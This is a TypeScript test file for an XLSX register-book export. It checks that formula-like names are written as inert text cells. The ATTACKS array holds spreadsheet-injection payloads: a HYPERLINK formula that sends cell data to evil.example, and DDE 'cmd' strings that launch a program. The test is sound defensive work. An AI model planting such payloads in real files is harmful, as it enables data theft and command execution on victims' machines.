import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ValueType } from 'exceljs';
import { registerBookToXlsx } from '../register-book/register-book-xlsx';
import { registerBookFixture } from '../register-book/testing/register-book-fixture';
import { readSheet } from '../testing/read-xlsx';

/** The worksheet XML of an export, as Excel reads it. */
function sheetXml(xlsx: Buffer): string {
  const dir = mkdtempSync(join(tmpdir(), 'sogoc-xlsx-'));
  try {
    writeFileSync(join(dir, 'export.xlsx'), xlsx);
    return execFileSync('unzip', ['-p', join(dir, 'export.xlsx'), 'xl/worksheets/sheet1.xml']).toString('utf8');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('XLSX exports write text cells as text: no formula can be created by data (issue 16)', () => {
  const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0"];
  const input = registerBookFixture(6, 1);
  ATTACKS.forEach((attack, i) => {
    const row = input.sections[0]?.rows[i];
    if (row) Object.assign(row, { fullName: attack, birthPlace: attack });
  });

  it('a register book whose names look like formulas opens with those names as inert text cells in Text format', async () => {
    const xlsx = await registerBookToXlsx(input);
    expect(sheetXml(xlsx)).not.toMatch(/<f[ >]/);
    const { sheet } = await readSheet(xlsx);
    const cells = ATTACKS.map((attack) => {
      let found: { type: ValueType; numFmt: string | undefined; formula: unknown } | undefined;
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.value === attack && !found)
            found = { type: cell.type, numFmt: cell.numFmt, formula: (cell as { formula?: unknown }).formula };
        }),
      );
      return found;
    });
    expect(cells).toEqual(ATTACKS.map(() => ({ type: ValueType.String, numFmt: '@', formula: undefined })));
  });

  it('numbers and dates keep their own formats', async () => {
    const { sheet } = await readSheet(await registerBookToXlsx(registerBookFixture(4, 1)));
    const formats = new Set<string>();
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ValueType.Number || cell.type === ValueType.Date) formats.add(cell.numFmt ?? 'General');
      }),
    );
    expect(formats.has('@')).toBe(false);
  });
});
